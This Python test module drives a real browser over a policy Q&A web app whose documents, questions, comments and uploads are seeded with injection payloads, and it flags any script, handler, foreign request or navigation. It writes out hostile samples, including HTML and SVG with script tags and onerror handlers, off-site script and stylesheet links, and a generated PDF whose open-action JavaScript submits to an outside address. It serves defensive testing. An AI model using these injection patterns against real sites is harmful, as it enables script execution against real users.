"""Promise: no text of a document, a name, a question or the log becomes more than text in a browser, on any page, nor does a file that is handed out.

A real service over files that carry the payloads wherever a file can, questions, comments, records and uploads with them beside it, and a real browser
that opens every page. A loss is a script that ran, an element, an address, a style or a request that is not ours, whatever of these the page's policy had
to stop, and a payload that was not seen where it should be shown.
"""

from __future__ import annotations

import json
import re
from collections import defaultdict
from collections.abc import Collection, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager, suppress
from html import escape
from pathlib import Path
from random import Random
from secrets import token_hex
from urllib.parse import quote, urlencode

from markdown_it import MarkdownIt
from playwright.sync_api import (
    Browser,
    BrowserContext,
    ConsoleMessage,
    Dialog,
    Error,
    Frame,
    Page,
    Request,
    sync_playwright,
)

from policy_qa.errors import PolicyQAError
from policy_qa.models.embedding import Encoder, open_encoder
from policy_qa.service import PolicyQA
from policy_qa.settings import Settings
from policy_qa.types import DecisionDraft, Holder, Question, Viewer
from policy_qa.wiring import open_policy_qa
from tests.torture.payloads import FOREIGN, Payload, file_name, payloads
from tests.torture.trial import Attempt, Trial
from tests.ui.browsing import FORBIDDEN, NO_CHROMIUM, Served, ask, chromium, launched, open_chat
from ui.app import PAGES
from ui.cookies import BROWSER_COOKIE

_TOGETHER = 50  # payloads of one corpus
_A_CONVERSATION = 10  # of its questions
_OWNER = Viewer.local_owner()
# Everywhere that each payload is to be seen.
_PLACES = ("documents", "document", "question", "comment", "decisions", "evaluation", "search")

# What is asked of an open page: what of it is not ours, and the marks of the payloads that it shows.
_LOOK = """() => {
  const isOurs = (address) => {
    try {
      const full = new URL(address, document.baseURI);
      return (full.origin === location.origin && /^https?:$/.test(full.protocol)) || /^data:image\\/(png|svg)/.test(address);
    } catch { return false; }
  };
  const lost = [];
  const addresses = /^(href|src|srcset|action|formaction|data|xlink:href|poster|ping|background|srcdoc|cite|code|manifest|to|values)$/i;
  const foreign = "base, iframe, frame, frameset, object, embed, applet, portal, math, template, marquee, meta[http-equiv], plaintext, xmp, noembed, map";
  for (const element of document.querySelectorAll("*")) {
    const told = () => element.outerHTML.slice(0, 160);
    if (element.matches(foreign)) lost.push(`element ${told()}`);
    if (element.matches("script") && element.type !== "application/json" && !(element.src && isOurs(element.src))) lost.push(`script ${told()}`);
    if (element.matches("style") && element.textContent.includes("taken")) lost.push(`style ${told()}`);
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name)) lost.push(`handler ${told()}`);
      if (/^(id|class|name)$/i.test(name) && /^taken/.test(value)) lost.push(`element ${told()}`);
      if (addresses.test(name) && value && !isOurs(value)) lost.push(`address ${told()}`);
      if (name === "style" && /taken|url|expression/.test(value)) lost.push(`style ${told()}`);
    }
  }
  for (const root of [document.documentElement, document.body])
    if (getComputedStyle(root).getPropertyValue("--taken")) lost.push("style --taken");
  if ({}.taken !== undefined || [].taken !== undefined) lost.push("prototype");
  if (document.querySelector("gradio-app") && typeof window.policyQA?.presses !== "function") lost.push("window.policyQA");
  lost.push(...window.ran.map((mark) => `ran ${mark}`));
  window.ran = [];
  const fields = [...document.querySelectorAll("input, textarea, option")].map((field) => field.value);
  return { lost, shown: [...new Set(`${document.body.textContent} ${fields.join(" ")}`.match(/x\\d{4}x/g))] };
}"""
# The browser's own viewer of PDF files, which is no page of ours.
_VIEWER = ("chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/", "chrome:")
_HIT = "window.ran = []; window.hit = (mark) => { window.ran.push(mark); };"


class _Watch:
    """What a browser did, page by page; what it should not have done is told as a loss, once."""

    def __init__(self, attempt: Attempt, context: BrowserContext, address: str) -> None:
        self._attempt = attempt
        self._address = address
        self._where = "start"
        self._told: set[str] = set()
        self.shown: dict[str, set[str]] = defaultdict(set)
        context.add_init_script(_HIT)
        context.on("request", self._asked)
        context.on("page", self._opened)

    def _loss(self, line: str) -> None:
        if line not in self._told:
            self._told.add(line)
            self._attempt.loss(f"{self._where}: {line}")

    def _asked(self, request: Request) -> None:
        if not request.url.startswith((self._address, "data:image/", "blob:", *_VIEWER)):
            self._loss(f"asked for {request.url[:120]}")

    def _opened(self, page: Page) -> None:
        page.on("dialog", self._asked_people)
        page.on("pageerror", lambda error: self._loss(f"script failed: {str(error)[:160]}"))
        page.on("console", self._said)
        page.on("framenavigated", self._framed)
        page.on("popup", lambda popup: self._loss(f"a window was opened: {popup.url[:120]}"))

    def _asked_people(self, dialog: Dialog) -> None:
        self._loss(f"dialog {dialog.message[:80]}")
        dialog.dismiss()

    def _framed(self, frame: Frame) -> None:
        # The browser's own viewer of PDF files stands in frames.
        if frame.parent_frame is not None and not frame.page.url.endswith(".pdf"):
            self._loss(f"a frame was made: {frame.url[:120]}")

    def _said(self, message: ConsoleMessage) -> None:
        if any(words in message.text for words in FORBIDDEN):
            self._loss(f"only the policy held: {message.text[:200]}")

    def look(self, page: Page, where: str) -> set[str]:
        """The marks that the page shows; the rest of what is found on it is told."""
        self._where = where
        seen = page.evaluate(_LOOK)
        for line in seen["lost"]:
            self._loss(line)
        if not page.url.startswith(self._address):
            self._loss(f"went to {page.url[:120]}")
        return set(seen["shown"])


def _texts(one: Payload, number: int) -> tuple[str, bytes]:
    """The ending and the bytes of a file that carries the payload wherever its format can."""
    text = one.text
    line = " ".join(text.split())
    body = (
        f"# {line}\n\n{text}\n\n## 予算 {line}\n\n| 事業 {line} | 令和8年度当初予算（百万円） |\n|---|---|\n| {line} | {number + 1},000 |\n\n"
        f"令和8年度の支援{one.mark}事業の予算額は{number + 1}億円とする。{line}\n"
        f"令和8年4月1日に{line}の実施を閣議決定した。\n対象は、{line}を営む市町村とする。補助率は2分の1以内とする。\n"
    )
    match number % 5:
        case 1:
            return ".txt", body.encode()
        case 2:
            held = escape(line)
            raw = f"<p>{text}</p><script>hit('{one.mark}')</script><img src=x onerror=\"hit('{one.mark}')\">"
            table = (
                f"<table><tr><th>{held}</th><th>金額（百万円）</th></tr><tr><td>{held}</td><td>1,000</td></tr></table>"
            )
            return (
                ".html",
                f"<html><head><title>{held}</title></head><body><h1>{held}</h1><p>{held}</p>{table}{raw}<p>{one.mark}事業の対象は市町村とする。</p></body></html>".encode(),
            )
        case 3:
            return (
                ".csv",
                f'事業,"{line.replace(chr(34), chr(34) * 2)}"\n"{line.replace(chr(34), chr(34) * 2)}",1000\n{one.mark}事業,対象は市町村\n'.encode(),
            )
        case 4 if number % 10 == 4:
            return ".txt", body.encode("cp932", "replace")
        case _:
            return ".md", body.encode()


def _corpus(folder: Path, chosen: Sequence[Payload]) -> None:
    """A file for each payload, which also stands in its name and in what is said of it."""
    folder.mkdir(parents=True)
    entries = []
    for number, one in enumerate(chosen):
        ending, data = _texts(one, number)
        name = file_name(one, ending)
        (folder / name).write_bytes(data)
        line = _line(one.text)
        said = {
            "files": [re.sub(r"([*?\[])", r"[\1]", name)], "title": f"{one.mark} {line}", "publishers": [f"庁{line}", one.mark], "date": "2026-03",
            "document_type": line, "terms": line, "labels": [f"label {line}", "public"],
        }  # fmt: skip
        entries.append(
            "[[document]]\n"
            + "\n".join(f"{key} = {json.dumps(value, ensure_ascii=False)}" for key, value in said.items())
        )
    (folder / "corpus.toml").write_text("\n\n".join(entries), encoding="utf-8")


def _line(text: str) -> str:
    """The text without what TOML and one line of a form cannot hold."""
    return "".join(letter for letter in " ".join(text.split()) if letter.isprintable() or ord(letter) > 0x7F).strip()


def _seed(service: PolicyQA, chosen: Sequence[Payload], holder: Holder) -> list[str]:
    """Questions, judgements, comments, conversations, records and kept questions with each payload; the conversations."""
    conversations = []
    for start in range(0, len(chosen), _A_CONVERSATION):
        asked: list[str] = []
        for one in chosen[start : start + _A_CONVERSATION]:
            identity = token_hex(8)
            service.ask(f"{one.text} {one.mark}事業の対象は？", viewer=holder.viewer, id=identity)
            service.give_feedback(identity, viewer=holder.viewer, useful=len(asked) % 2 == 0, comment=one.text)
            asked.append(identity)
        conversations.append(token_hex(8))
        service.keep_turns(conversations[-1], asked, holder)
        service.conversations.rename(
            conversations[-1], " ".join(one.text for one in chosen[start : start + _A_CONVERSATION]), holder
        )
    for one in chosen:
        line = _line(one.text)
        with suppress(PolicyQAError):  # what is refused is not shown
            service.record_decision(
                DecisionDraft(
                    "decision",
                    line,
                    line,
                    line,
                    one.text,
                    line,
                    line,
                    line,
                    "2026-04-01",
                    one.text,
                    one.text,
                    (),
                    shared=True,
                ),
                viewer=holder.viewer,
            )
        with suppress(PolicyQAError):
            kept = Question(
                f"q-{one.mark}",
                "budget",
                one.text,
                answerable=True,
                turns=(one.text,),
                must=((line,),),
                evidence=(one.text,),
                path=line,
            )
            service.evaluation.keep(kept, viewer=holder.viewer)
    if service.editing is not None:
        for one in chosen[:8]:
            with suppress(PolicyQAError):
                arriving = service.editing.receive(token_hex(16), file_name(one, ".md"), holder)
                arriving.write(f"# {one.text}\n\n{one.text}\n".encode())
                arriving.finish()
    return conversations


def _until(page: Page, condition: str) -> bool:
    """Whether that comes true within some seconds; Playwright's own way compiles text, which the policy of the pages forbids."""
    return bool(
        page.evaluate(
            f"() => new Promise((done) => {{ const end = performance.now() + 15000; const look = () => ({condition}) ? done(true) :"
            " performance.now() > end ? done(false) : setTimeout(look, 15); look(); })"
        )
    )


def _drawn(page: Page, address: str) -> None:
    """The page at ``address``, once its components have their values."""
    page.goto(address, wait_until="commit")
    _until(
        page,
        "document.querySelector('.bar .product') && document.querySelector('#content .piece :is(h2, p, table, form, li)')",
    )


def _whole(page: Page) -> None:
    """Presses what shows more of a list until there is no more."""
    for _ in range(12):
        if not page.evaluate("() => { const more = [...document.querySelectorAll('button[data-event]')].find((one) => /\"more\"/.test(one.dataset.value));"
                             " window.before = document.querySelector('#content').textContent.length; more?.click(); return Boolean(more); }"):  # fmt: skip
            return
        _until(page, "document.querySelector('#content').textContent.length !== window.before")


def _conversations(page: Page, watch: _Watch, chosen: Sequence[Payload], conversations: Sequence[str]) -> None:
    for number, conversation in enumerate(conversations):
        last = chosen[min((number + 1) * _A_CONVERSATION, len(chosen)) - 1].mark
        page.goto(f"/?c={conversation}", wait_until="commit")
        _until(page, f"document.querySelector('#conversation')?.textContent.includes('{last}')")
        watch.shown["question"] |= watch.look(page, "a conversation")
        watch.shown["comment"] |= set(
            page.evaluate(
                "[...document.querySelectorAll('.comment textarea')].flatMap((one) => one.value.match(/x\\d{4}x/g) ?? [])"
            )
        )


def _documents(page: Page, watch: _Watch, chosen: Sequence[Payload]) -> None:
    _drawn(page, "/documents")
    watch.shown["documents"] |= watch.look(page, "the list of documents")
    for number in range(len(chosen)):
        pressed = page.evaluate(
            """(number) => {
              window.before = document.querySelector("#document")?.dataset.address;
              const button = [...document.querySelectorAll('#documents button[data-event="select"]')].filter((one) => /"document"/.test(one.dataset.value))[number];
              button?.click();
              return Boolean(button);
            }""",
            number,
        )
        if pressed and _until(
            page, "(document.querySelector('#document')?.dataset.address ?? window.before) !== window.before"
        ):
            watch.shown["document"] |= watch.look(page, "a document")


def _lists(page: Page, watch: _Watch, chosen: Sequence[Payload]) -> None:
    for address, where in (
        ("/decisions?source=document&source=decision&source=reply&source=answer", "decisions"),
        ("/evaluation?view=questions", "evaluation"),
        ("/evaluation?view=judged", "evaluation"),
        ("/budgets", "budgets"),
        ("/facts", "facts"),
        ("/", "welcome"),
    ):
        _drawn(page, address)
        _whole(page)
        watch.shown[where] |= watch.look(page, where)
    for one in chosen:
        watch.shown["search"] |= (
            _found(page, watch, f"{one.mark}事業") if not watch.shown["search"] >= {one.mark} else set()
        )


def _found(page: Page, watch: _Watch, query: str) -> set[str]:
    """What a search through the form of the page finds."""
    if "/search" not in page.url:
        _drawn(page, "/search")
    page.evaluate(
        "(query) => { const field = document.querySelector('input[name=q]'); field.value = query; field.form.requestSubmit(); }",
        query,
    )
    _until(page, f"new URLSearchParams(location.search).get('q') === {json.dumps(query)}")
    return watch.look(page, "search")


def _reflected(page: Page, watch: _Watch, one: Payload, number: int) -> None:
    """A page that is opened at an address full of the payload."""
    names = (
        "q",
        "query",
        "path",
        "c",
        "program",
        "body",
        "form",
        "year",
        "view",
        "lang",
        "__theme",
        "run",
        "edit",
        "record",
        "publisher",
        "type",
        "label",
        "__proto__",
        "part",
    )
    page_of = PAGES[number % len(PAGES)].path
    page.goto(
        f"/{page_of}?{urlencode(dict.fromkeys(names, one.text), errors='replace')}#{quote(one.text, errors='replace')}",
        wait_until="commit",
    )
    _until(page, "document.querySelector('.bar .product')")
    page.wait_for_timeout(150)
    watch.look(page, f"/{page_of} with parameters")


def _errors(page: Page, watch: _Watch, one: Payload) -> None:
    """Addresses that are not there, JSON that is opened as a page, and the description of the API."""
    for address in (f"/{quote(one.text, safe='', errors='replace')}", f"/api/{quote(one.text, errors='replace')}", f"/api/facts?program={quote(one.text, errors='replace')}&year=x",
                    f"/api/original?path={quote(one.text, errors='replace')}", "/api/status", "/api/facts", "/docs"):  # fmt: skip
        with suppress(Error):  # what is saved is no page
            page.goto(address)
            watch.look(page, address[:40])


def _asks(page: Page, watch: _Watch, one: Payload) -> None:
    """A question that is written, its answer judged, its source opened."""
    open_chat(page, "/")
    ask(page, " ".join(one.text.split()) + f" {one.mark}事業の対象は？")
    page.evaluate("() => document.querySelector('.turn .judge')?.click()")
    page.evaluate("() => document.querySelector('.turn .cite')?.click()")
    page.wait_for_timeout(200)
    watch.shown["question"] |= watch.look(page, "asking")


def _exports(page: Page, watch: _Watch, attempt: Attempt, conversations: Sequence[str]) -> None:
    """What is saved: no page of it opens, and a reader of Markdown finds no link, picture or markup in it that is not ours."""
    reader = MarkdownIt("gfm-like", {"html": True, "linkify": False})
    for address in (
        *(f"/api/conversations/{one}?form={form}" for one in conversations for form in ("markdown", "json")),
        "/api/evaluation/questions.jsonl",
        "/api/budgets.csv",
        "/api/budgets.xlsx",
    ):
        got = page.request.get(address)
        if (
            not got.headers.get("content-disposition", "").startswith("attachment")
            or got.headers.get("x-content-type-options") != "nosniff"
        ):
            attempt.loss(f"{address[:40]} opens as a page")
        if "markdown" in got.headers.get("content-type", ""):
            for line in re.findall(r"<(?:a|img|script|svg|iframe|math|style)\b[^>]*>", reader.render(got.text())):
                if FOREIGN in line or "hit(" in line or not line.startswith("<a"):
                    attempt.loss(f"in an export: {line[:120]}")


def _originals(page: Page, watch: _Watch, attempt: Attempt, names: Sequence[str], read: Collection[str]) -> None:
    """Files of the corpus that are opened by their address are saved, one that a browser would run above all; those that were ``read`` are there."""
    for name in names:
        address = f"/api/original?path={quote(name, errors='replace')}"
        with suppress(Error):  # a file that is saved ends the navigation
            page.goto(address)
            watch.look(page, f"the original {Path(name).suffix}")
        got = page.request.get(address)
        if not got.ok and name in read:
            attempt.loss(f"the original {Path(name).suffix} was not there")
        saved = not got.ok or got.headers.get("content-disposition", "").startswith("attachment")
        if not saved:
            attempt.loss(f"the original {Path(name).suffix} opens as a page")


def _hostile_files(folder: Path) -> list[str]:
    """Files that are programs for a browser, each with what calls ``hit``."""
    away = f"//{FOREIGN}/file"
    held = "x0000xfile"
    files = {
        "page.html": f"<title>x</title><script>hit('{held}')</script><img src=x onerror=\"hit('{held}')\"><script src='{away}.js'></script>",
        "page.xhtml": f'<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title><script>hit("{held}")</script></head><body><p>本文</p></body></html>',
        "page.svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="hit(\'{held}\')"><script>hit("{held}")</script><image href="{away}.png"/></svg>',
        "page.xml": f'<?xml version="1.0"?><?xml-stylesheet href="{away}.xsl"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>hit("{held}")</h:script></x>',
        "page.md": f"# 本文\n\n<script>hit('{held}')</script>\n",
        "page.txt": f"本文 <script>hit('{held}')</script>\n",
    }
    for name, text in files.items():
        (folder / name).write_text(text, encoding="utf-8")
    (folder / "page.pdf").write_bytes(
        hostile_pdf(
            f"app.alert('{held}'); this.submitForm('http:{away}'); app.launchURL('http:{away}');", f"http:{away}"
        )
    )
    return [*files, "page.pdf"]


def hostile_pdf(script: str, away: str) -> bytes:
    """A page of text that runs a script when the file opens, and goes to an address when the page does."""
    text = b"BT /F 24 Tf 20 100 Td (Budget 2026: 1,000) Tj ET"
    held = script.replace("(", "\\(").replace(")", "\\)").encode()
    parts = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(%s)>>>>" % held,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 200]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>/AA<</O<</S/URI/URI(%s)>>>>>>"
        % away.encode(),
        b"<</Length %d>>stream\n%s\nendstream" % (len(text), text),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    data, places = b"%PDF-1.7\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return data + b"xref\n0 6\n0000000000 65535 f \n%strailer<</Root 1 0 R/Size 6>>\nstartxref\n%d\n%%%%EOF\n" % (
        table,
        len(data),
    )


@contextmanager
def _serving(folder: Path, chosen: Sequence[Payload], encoder: Encoder) -> Iterator[tuple[PolicyQA, Served, list[str]]]:
    _corpus(folder / "corpus", chosen)
    names = _hostile_files(folder / "corpus")
    with open_policy_qa(Settings(corpus=folder / "corpus", index=folder / "index"), encoder=encoder) as service:
        service.sync()
        with Served(service, _OWNER) as served:
            yield service, served, names


def _batch(
    attempt: Attempt, browser: Browser, folder: Path, chosen: Sequence[Payload], encoder: Encoder, dice: Random
) -> None:
    with (
        _serving(folder, chosen, encoder) as (service, served, names),
        browser.new_context(
            locale="ja-JP", base_url=served.address, viewport={"width": 1280, "height": 900}
        ) as context,
    ):
        watch = _Watch(attempt, context, served.address)
        page = context.new_page()
        open_chat(page, "/")
        secret = next(one["value"] for one in context.cookies() if one["name"] == BROWSER_COOKIE)
        conversations = _seed(service, chosen, Holder(_OWNER, secret))
        _conversations(page, watch, chosen, conversations)
        _documents(page, watch, chosen)
        _lists(page, watch, chosen)
        some = dice.sample(chosen, max(1, len(chosen) // 10))
        for number, one in enumerate(some):
            _reflected(page, watch, one, number)
        _asks(page, watch, some[0])
        _errors(page, watch, some[-1])
        _exports(page, watch, attempt, conversations)
        _originals(
            page,
            watch,
            attempt,
            [*names, *(file_name(one, _texts(one, number)[0]) for number, one in enumerate(chosen[:6]))],
            {document.path for document in service.documents(viewer=_OWNER)},
        )
        for place in _PLACES:
            for one in chosen:
                if one.mark not in watch.shown[place]:
                    attempt.loss(f"{one.family} {one.text[:80]!r} was not seen in {place}")
        attempt.tried += len(chosen)


def _run(attempt: Attempt) -> None:
    chosen = payloads(attempt.times, attempt.dice)
    with sync_playwright() as playwright, launched(playwright) as browser:
        encoder = open_encoder(None)
        for start in range(0, len(chosen), _TOGETHER):
            _batch(
                attempt, browser, attempt.folder / str(start), chosen[start : start + _TOGETHER], encoder, attempt.dice
            )


def _in_a_thread(attempt: Attempt) -> None:
    """Playwright has one loop a thread, and the tests of the screens may hold that of this one."""
    with ThreadPoolExecutor(1) as pool:
        pool.submit(_run, attempt).result()


def _unavailable() -> str | None:
    return None if chromium() else NO_CHROMIUM


TRIALS = (
    Trial("hostile-screens", "payloads in every text of every page, in a browser", 500, 8, _in_a_thread, _unavailable),
)
